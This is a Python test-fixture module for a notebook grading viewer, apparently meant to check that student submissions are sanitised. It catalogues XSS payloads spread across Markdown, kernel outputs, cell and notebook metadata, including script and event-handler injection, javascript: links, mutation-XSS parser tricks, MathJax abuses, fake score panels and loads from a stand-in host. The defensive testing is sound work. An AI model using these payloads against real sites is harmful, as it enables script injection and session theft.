r"""Markup that a student may hand in to run code in the reader's browser, load from elsewhere, or look like the page.

A payload that runs puts its name into the page's `window.ran`; one that loads something asks ELSEWHERE for it.

MARKDOWN    sources of Markdown cells (and of raw cells)
OUTPUTS     outputs as a kernel may send them, and fields of the code cell that has them
CELLS       fields and metadata of cells in the notebook as handed in
NOTEBOOKS   metadata of the notebook as handed in
STUDENT     a folder name
"""

ELSEWHERE = "https://elsewhere.example"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
STUDENT = "<img src=x onerror=window.ran='student'>"


def _run(name: str) -> str:
    return f"(window.ran=window.ran||[]).push('{name}')"


def _named(template: str, name: str) -> str:
    """RUN becomes a call that leaves the payload's name; URL an address elsewhere with the name in it."""
    return template.replace("RUN", _run(name)).replace("URL", f"{ELSEWHERE}/{name}")


_MARKDOWN = {
    # scripts and event handlers
    "script": "<script>RUN</script>",
    "script_uppercase_unclosed": "<SCRIPT\n>RUN</SCRIPT\n x>",
    "script_src": "<script src='URL.js'></script>",
    "script_split": "<scr<script>ipt>RUN</scr</script>ipt>",
    "script_module": "<script type=module>import 'URL.mjs'; RUN</script>",
    "image_error": "<img src=x onerror=\"RUN\">",
    "image_error_slashes": "<img/src=\"x\"/onerror=\"RUN\"/>",
    "image_quote_broken": "![x](x\"onerror=\"RUN)",
    "image_title_broken": "![a](x 'b\" onerror=\"RUN')",
    "details_toggle": "<details open ontoggle=\"RUN\"><summary>more</summary></details>",
    "focus": "<div tabindex=0 autofocus onfocus=\"RUN\">x</div>",
    "animation": "<style>@keyframes a{}</style><b style='animation-name:a' onanimationstart=\"RUN\">x</b>",
    "video_source": "<video><source onerror=\"RUN\" src=x></video>",
    "body_load": "<body onload=\"RUN\">",
    "marquee": "<marquee onstart=\"RUN\">x</marquee>",
    "nul_in_handler": "<img src=x on\x00error=\"RUN\" \x00onerror=\"RUN\">",
    # addresses
    "javascript_link": "[x](javascript:RUN)",
    "javascript_entities": "<a href=\"&#106;&#97;vascript&colon;RUN\">x</a>",
    "javascript_tab": "<a href=\"java\tscript:RUN\">x</a>",
    "javascript_control": "<a href=\"\x01javascript:RUN\">x</a>",
    "javascript_reference": "[x][r]\n\n[r]: javascript:RUN",
    "javascript_autolink": "<javascript:RUN>",
    "vbscript_link": "[x](vbscript:RUN)",
    "data_link": "[x](data:text/html,<script>RUN</script>)",
    "data_image_html": "<img src='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>",
    "relative_link": "[your marks](/logout)",
    "scheme_relative": "[x](//elsewhere.example/scheme_relative)",
    # SVG and MathML
    "svg_load": "<svg onload=\"RUN\"></svg>",
    "svg_script": "<svg><script>RUN</script></svg>",
    "svg_animate": "<svg><a><animate attributeName=href values=\"javascript:RUN\"/><text x=20 y=20>x</text></a></svg>",
    "svg_use": "<svg><use href='URL.svg#a'/><image href='URL.png'/></svg>",
    "svg_xlink": "<svg><a xlink:href='javascript:RUN'><text x=20 y=20>x</text></a><foreignObject><img src=x onerror='RUN'></svg>",
    "svg_base64": "<img src='data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4='>",
    "svg_data": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>\">",
    "math_link": "<math><mtext href=\"javascript:RUN\">x</mtext></math>",
    # things that load, navigate or send
    "image_elsewhere": "![x](URL.png)",
    "image_elsewhere_html": "<img src='URL.png' srcset='URL2.png 2x'>",
    "image_of_the_server": "![x](/logout)",
    "picture_source": "<picture><source srcset='URL.webp'><img src=x></picture>",
    "iframe": "<iframe src=\"javascript:parent.RUN\"></iframe>",
    "iframe_srcdoc": "<iframe srcdoc=\"<script>parent.RUN</script>\"></iframe>",
    "object": "<object data='URL.swf'></object><embed src='URL.swf'>",
    "meta_refresh": "<meta http-equiv=refresh content='0;url=URL'>",
    "base": "<base href='URL/'>",
    "link_stylesheet": "<link rel=stylesheet href='URL.css'><link rel=preload as=image href='URL.png'>",
    "style_import": "<style>@import 'URL.css'; body{background:url(URL.png)}</style>",
    "style_in_a_clip": "<div style='contain: paint; overflow-x: auto; overflow-y: hidden; background: url(URL.png)'>x</div>",
    "style_in_a_cell": "<table><tr><td style='text-align: left; background: url(URL.png)'>x</td></tr></table>",
    "link_ping": "<a href='#' ping='URL' target=_top style='position:fixed;inset:0'>x</a>",
    "style_attribute": "<p style=\"background:url(URL.png);position:fixed;inset:0\">x</p>",
    "background": "<table background='URL.png'><tr><td background='URL.png'>x</td></tr></table>",
    "form": "<form action='URL'><input name=q autofocus onfocus=\"RUN\"><button formaction=\"javascript:RUN\">Save</button></form>",
    "input_image": "<input type=image src=x onerror=\"RUN\"><input type=image src='URL.png'>",
    "audio": "<audio src='URL.mp3' autoplay></audio><track src='URL.vtt'>",
    # the parser's corners
    "mutation_noscript": "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
    "mutation_style": "<svg></p><style><a id=\"</style><img src=x onerror=RUN>\">",
    "mutation_math": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=RUN&gt;\">",
    "mutation_title": "<title><p title=\"</title><img src=x onerror=RUN>\"></title>",
    "mutation_textarea": "<textarea><p title=\"</textarea><img src=x onerror=RUN>\">",
    "mutation_template": "<template><s><template><s><img src=x onerror=RUN>",
    "comment_unclosed": "<!-- \n\n a comment that never ends",
    "comment_conditional": "<!--[if true]><img src=x onerror=\"RUN\"><![endif]--><!--><img src=x onerror=\"RUN\">-->",
    "processing_instruction": "<?xml-stylesheet href='URL.css'?><![CDATA[<img src=x onerror=\"RUN\">]]>",
    "closing_tags": "</div></div></section></main></body></html><script>RUN</script>",
    "plaintext": "<plaintext>",
    "nested_quotes": "`<img src=x onerror=\"RUN\">` **<img src=x onerror=\"RUN\">**\n\n    <img src=x onerror=\"RUN\">",
    "mermaid": "```mermaid\n</pre><img src=x onerror=\"RUN\">\n```",
    "code_language": "```x\"><img/src=x/onerror=\"RUN\">\ncode\n```",
    "heading": "# <img src=x onerror=\"RUN\"> head",
    "table_cell": "|a|\n|-|\n|<img src=x onerror=\"RUN\">|",
    # formulas
    "math_href": "$\\href{javascript:RUN}{x}$",
    "math_text": "$\\text{<img src=x onerror=\"RUN\">}$",
    "math_unicode": "$\\unicode[<img src=x onerror=RUN>]{x61}$ $\\unicode[\" onmouseover=\"RUN]{x61}$",
    "math_style": "$\\style{background:url(URL.png)}{x} \\cssId{total}{x} \\class{score}{x}$",
    "math_token": "$\\mmlToken{mtext}[href=\"javascript:RUN\" style=\"background:url(URL.png)\"]{x}$",
    "math_data": "$\\href{data:text/html,<script>RUN</script>}{x} \\bbox[url(URL.png)]{x} \\color{url(URL.png)}{x}$",
    "math_above_its_cell": "$\\smash{\\raise 30em{\\rlap{\\text{20 / 20}}}} \\kern-60em x$",
    "math_endless_macro": "$\\def\\a{\\a\\a}\\a$",
    "math_require": "$\\require{URL}$ $\\require{../../../../URL}$",
    "math_environment": "\\begin{align}<img src=x onerror=\"RUN\">\\end{align}",
    "math_script": "<script type='math/tex'>\\href{javascript:RUN}{x}</script>",
    # attachments
    "attachment_missing": "![x](attachment:missing.png)",
    "attachment_name": "![x](attachment:x\"onerror=\"RUN)",
    # the look of the page
    "look_of_the_score": "<div class='panel-heading' id='test_double'><input class='score' id='test_double' value='5'></div>\n\n"
    "<h2 class='graded' id='test_double'>double <span class='points' style='float:right'>5 / 5</span></h2>",
    "cover": "<div class='modal navbar-fixed-top' style='position:fixed;inset:0;z-index:9999'>Session ended</div>",
    "clobber": "<a id=formgrader></a><img name=MathJax><form name=submission_id></form>",
}
MARKDOWN = {name: _named(template, name) for name, template in _MARKDOWN.items()}


def _display(data: dict, **metadata) -> list[dict]:
    return [{"output_type": "display_data", "data": data, "metadata": metadata}]


_PICTURE = {"image/png": PIXEL}
_HANDLER = '1 onerror="RUN" onload="RUN"'
_OUTPUTS = {
    "width": {"outputs": _display(_PICTURE, **{"image/png": {"width": _HANDLER, "height": _HANDLER}})},
    "width_flat": {"outputs": _display(_PICTURE, width=_HANDLER, height=_HANDLER)},
    "filenames": {"outputs": _display(_PICTURE, filenames={"image/png": "URL.png"})},
    "alt": {"outputs": _display(_PICTURE, **{"image/png": {"alt": '" onload="RUN', "unconfined": True}})},
    "picture_broken": {"outputs": _display({"image/png": '"><img src=x onerror="RUN">'})},
    "picture_other_type": {"outputs": _display({"image/jpeg": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"})},
    "html": {"outputs": _display({"text/html": "<script>RUN</script><img src='URL.png'>", "text/plain": "a table"})},
    "html_isolated": {"outputs": _display({"text/html": "<script>RUN</script>"}, **{"text/html": {"isolated": True}})},
    "javascript": {"outputs": _display({"application/javascript": "RUN"})},
    "svg": {"outputs": _display({"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>'})},
    "markdown": {"outputs": _display({"text/markdown": '<img src=x onerror="RUN"> ![x](URL.png)'})},
    "latex": {"outputs": _display({"text/latex": '<img src=x onerror="RUN">'})},
    "mermaid_output": {"outputs": _display({"text/vnd.mermaid": "</pre><script>RUN</script>"})},
    "widget": {"outputs": _display({"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>RUN"}})},
    "plain_markup": {"outputs": _display({"text/plain": "<script>RUN</script><img src=x onerror=RUN>"})},
    "plain_no_text": {"outputs": _display({"text/plain": {"a": 1}})},
    "stream": {"outputs": [{"output_type": "stream", "name": "stdout", "text": "</pre><script>RUN</script>"}]},
    "stream_ansi": {
        "outputs": [{"output_type": "stream", "name": "stderr", "text": "\x1b[31m<img src=x onerror=\"RUN\">\x1b[38;5;x\">\x1b[0m"}]
    },
    "stream_name": {"outputs": [{"output_type": "stream", "name": "<script>RUN</script>", "text": "x"}]},
    "traceback": {
        "outputs": [
            {
                "output_type": "error",
                "ename": "<script>RUN</script>",
                "evalue": "<img src=x onerror=\"RUN\">",
                "traceback": ["\x1b[0;31m</pre><script>RUN</script>\x1b[0m", "<img src=x onerror=\"RUN\">", 7],
            }
        ]
    },
    "execution_count": {"outputs": [], "execution_count": "<img src=x onerror=\"RUN\">"},
    "output_count": {
        "outputs": [
            {"output_type": "execute_result", "data": {"text/plain": "1"}, "metadata": {}, "execution_count": "<script>RUN</script>"}
        ]
    },
    "output_kind": {"outputs": [{"output_type": "<script>RUN</script>", "data": {}, "metadata": {}}]},
}

_CELLS = {
    "tags": {"metadata": {"tags": ["x\"><img src=x onerror=RUN>", "score panel nbgrader_cell"]}},
    "magics_language": {"metadata": {"magics_language": "<img src=x onerror=RUN>"}},
    "raw_type": {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": "<script>RUN</script>"},
    "raw": {"cell_type": "raw", "source": "<img src=x onerror=\"RUN\"> <img src='URL.png'>"},
    "cell_alt": {"metadata": {"alt": "\" onload=\"RUN"}},
    "hidden_source": {"metadata": {"transient": {"remove_source": True}}},
    "grade_id": {
        "metadata": {
            "nbgrader": {
                "grade_id": "x\"><img src=x onerror=\"RUN\">", "grade": True, "solution": True, "locked": False, "task": False,
                "points": 100, "schema_version": 3,
            }
        }
    },
    "attachment_type": {
        "cell_type": "markdown",
        "source": "![x](attachment:a) <img src='attachment:a'>",
        "attachments": {"a": {"text/html;x\" onerror=\"RUN": "PHNjcmlwdD4="}},
    },
    "attachment_content": {
        "cell_type": "markdown",
        "source": "![x](attachment:a)",
        "attachments": {"a": {"image/png": "x\" onerror=\"RUN"}},
    },
    "attachment_svg": {
        "cell_type": "markdown",
        "source": "![x](attachment:a.svg)",
        "attachments": {"a.svg": {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>"}},
    },
    "attachment_named": {
        "cell_type": "markdown",
        "source": "![x](attachment:%22%3E%3Cimg%20src=x%20onerror=RUN%3E)",
        "attachments": {"\"><img src=x onerror=RUN>": {"image/png": PIXEL}},
    },
}

_NOTEBOOKS = {
    "title": {"title": "</title><script>RUN</script>"},
    "kernelspec": {
        "kernelspec": {"name": "<script>RUN</script>", "display_name": "<img src=x onerror=RUN>", "language": "<script>RUN</script>"}
    },
    "language_info": {"language_info": {"name": "\"><img src=x onerror=RUN>", "pygments_lexer": "\"><img src=x onerror=RUN>"}},
    "language_number": {"language_info": {"name": 5, "pygments_lexer": ["a"]}, "language": 5},
    "widgets_without_state": {"widgets": {"application/vnd.jupyter.widget-state+json": {"abc": {"model_name": "HBoxModel"}}}},
    "widgets_script": {
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"</script><script>RUN</script>": {}}, "version_major": 1}}
    },
    "widgets_text": {"widgets": "<script>RUN</script>"},
    "messages": {"course_grader": {"messages": ["<script>RUN</script>"], "needs_review": "<script>RUN</script>"}},
    "course": {"course": {"lab": "<script>RUN</script>", "version": ["<img src=x onerror=RUN>"]}},
}


def _filled(entry, name: str):
    """`entry` with every string named, in lists and dictionaries too."""
    if isinstance(entry, str):
        return _named(entry, name)
    if isinstance(entry, dict):
        return {_named(key, name): _filled(value, name) for key, value in entry.items()}
    return [_filled(value, name) for value in entry] if isinstance(entry, list) else entry


OUTPUTS = {name: _filled(entry, name) for name, entry in _OUTPUTS.items()}
CELLS = {name: _filled(entry, name) for name, entry in _CELLS.items()}
NOTEBOOKS = {name: _filled(entry, name) for name, entry in _NOTEBOOKS.items()}
